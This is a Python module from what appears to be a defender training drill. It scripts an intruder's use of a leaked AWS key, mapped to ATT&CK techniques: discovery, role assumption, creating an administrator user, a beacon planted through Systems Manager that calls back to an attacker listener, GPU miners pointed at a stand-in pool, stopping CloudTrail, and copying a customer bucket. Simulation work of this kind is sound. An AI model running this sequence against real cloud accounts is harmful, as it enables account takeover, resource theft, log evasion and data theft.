"""What the intruder does with the leaked key, from the first who-am-I to the copied bucket.

References:
    ATT&CK T1078.004 (cloud accounts), T1087.004 and T1580 (discovery), T1136.003 (create cloud account), T1098.001
    (additional credentials), T1496 (resource hijacking), T1651 (cloud administration command), T1562.008 (disable
    cloud logs), T1530 (data from cloud storage), T1071 (application layer protocol).
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable
from typing import Any

from amberlight.lab.places import Place
from amberlight.practice.actors import Actor
from amberlight.practice.drills.leaked_key.scene import (
    BEACON_PATH,
    LISTENER_PORT,
    LOADER_PATH,
    Scene,
    Secrets,
    and_gone,
    on_host,
)

MINER_SCRIPT = "#!/bin/sh\necho pool=stratum.example:3333 > ${HOST_ROOT}/etc/miner.conf\n"
ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"
Tell = Callable[[str], None]


class Attack:
    """The intruder's way through the account.

    Args:
        actor: The leaked key, used from the attacker's address.
        place: The attacker's machine.
        tell: Says aloud what was done, for the story on the terminal.
        pause: Waits between acts; seconds.
    """

    def __init__(
        self,
        actor: Actor,
        place: Place,
        scene: Scene,
        secrets: Secrets,
        *,
        tell: Tell,
        pause: Callable[[float], object],
    ) -> None:
        self.actor = actor
        self.place = place
        self.scene = scene
        self.secrets = secrets
        self.tell = tell
        self.pause = pause
        self.copied_before_stop: list[str] = []
        self.copied_after_stop: list[str] = []
        self.miners: list[str] = []

    def run(self) -> None:
        """Everything, in order."""
        self.look_around()
        automation = self.climb()
        owner = self.stay(automation)
        self.listen()
        self.plant(owner)
        self.mine(owner)
        self.steal(owner)

    def look_around(self) -> None:
        """Discovery with the leaked key."""
        self.actor.call("sts.GetCallerIdentity")
        self.tell(f"a leaked key of build-agent is used from {self.place.address}: who am I?")
        for operation in (
            "s3.ListBuckets",
            "iam.ListUsers",
            "iam.ListRoles",
            "ec2.DescribeInstances",
            "ec2.DescribeSecurityGroups",
            "cloudtrail.DescribeTrails",
        ):
            self.actor.call(operation)
        for _ in range(30):
            self.actor.call("ec2.DescribeVolumes")
        self.pause(0.2)

    def climb(self) -> Actor:
        """A new user is denied to the leaked key; the automation role may make one."""
        self.actor.call("iam.CreateUser", UserName=self.secrets.user)
        self.tell("iam:CreateUser is denied to it")
        answer = self.actor.call(
            "sts.AssumeRole", RoleArn=self.scene.automation_role, RoleSessionName="nightly-maintenance"
        )
        automation = self.actor.become(answer)
        if automation is None:
            raise RuntimeError("the scene is broken: the leaked key cannot assume the automation role")
        self.pause(0.2)
        return automation

    def stay(self, automation: Actor) -> Actor:
        """Persistence: a user with full rights, and a key of it."""
        automation.call("iam.CreateUser", UserName=self.secrets.user)
        automation.call("iam.AttachUserPolicy", UserName=self.secrets.user, PolicyArn=ADMINISTRATOR)
        owner = automation.become(automation.call("iam.CreateAccessKey", UserName=self.secrets.user))
        if owner is None:
            raise RuntimeError("the scene is broken: the automation role cannot make a key")
        owner.call("sts.GetCallerIdentity")
        self.tell(f"it assumes the automation role: new administrator {self.secrets.user}, with a key")
        self.pause(0.2)
        return owner

    def listen(self) -> None:
        """The attacker's end of the beacon's line."""
        server = self.place.listen(LISTENER_PORT)
        threading.Thread(target=self._accept, args=(server,), daemon=True, name="listener").start()

    def _accept(self, server: socket.socket) -> None:
        while True:
            line, _ = server.accept()
            threading.Thread(target=self._answer, args=(line,), daemon=True, name="line").start()

    def _answer(self, line: socket.socket) -> None:
        try:
            with line:
                line.sendall(f"{self.secrets.nonce}\n".encode())
                while line.recv(4096):
                    pass
        except OSError:
            # The beacon's host was cut off or stopped: that is what responders do.
            return

    def plant(self, owner: Actor) -> None:
        """A beacon on the web server, brought there by Systems Manager."""
        settings = {
            "host": self.place.address,
            "port": LISTENER_PORT,
            "source": self.scene.web_address,
            "payload": self.secrets.payload,
            "token": self.secrets.token,
        }
        script = on_host("host_beacon", BEACON_PATH, json.dumps(settings))
        script += and_gone(LOADER_PATH, self.secrets.token)
        owner.call(
            "ssm.SendCommand",
            InstanceIds=[self.scene.web_instance],
            DocumentName="AWS-RunShellScript",
            Parameters={"commands": script.splitlines()},
        )
        self.tell(f"a beacon starts on the web server, through Systems Manager: {BEACON_PATH}")
        self.pause(0.2)

    def mine(self, owner: Actor) -> None:
        """Instances that cost money, in a Region where nobody looks."""
        answer = owner.call(
            "ec2.RunInstances",
            region=self.scene.other_region,
            ImageId=self.scene.image,
            InstanceType="g5.12xlarge",
            MinCount=2,
            MaxCount=2,
            UserData=MINER_SCRIPT,
        )
        self.miners = [found["InstanceId"] for found in (answer or {}).get("Instances", [])]
        self.tell(f"{len(self.miners)} x g5.12xlarge start mining in {self.scene.other_region}")
        self.pause(0.2)

    def steal(self, owner: Actor) -> None:
        """The customers' bucket, object by object: a few to see what it is, the rest with the trail off."""
        keys = self.listed(owner)
        for key in keys[:4]:
            self.copied_before_stop += [key] if owner.read(self.scene.customer_bucket, key) else []
        owner.call("cloudtrail.StopLogging", Name=self.scene.trail)
        self.tell("StopLogging: the trail is off")
        for key in keys[4:]:
            self.copied_after_stop += [key] if owner.read(self.scene.customer_bucket, key) else []
        copied = len(self.copied_before_stop) + len(self.copied_after_stop)
        self.tell(f"{copied} customer records copied, object by object")

    def listed(self, owner: Actor) -> list[str]:
        """Keys of the customers' bucket."""
        answer: dict[str, Any] = owner.call("s3.ListObjectsV2", Bucket=self.scene.customer_bucket) or {}
        return [found["Key"] for found in answer.get("Contents", [])]
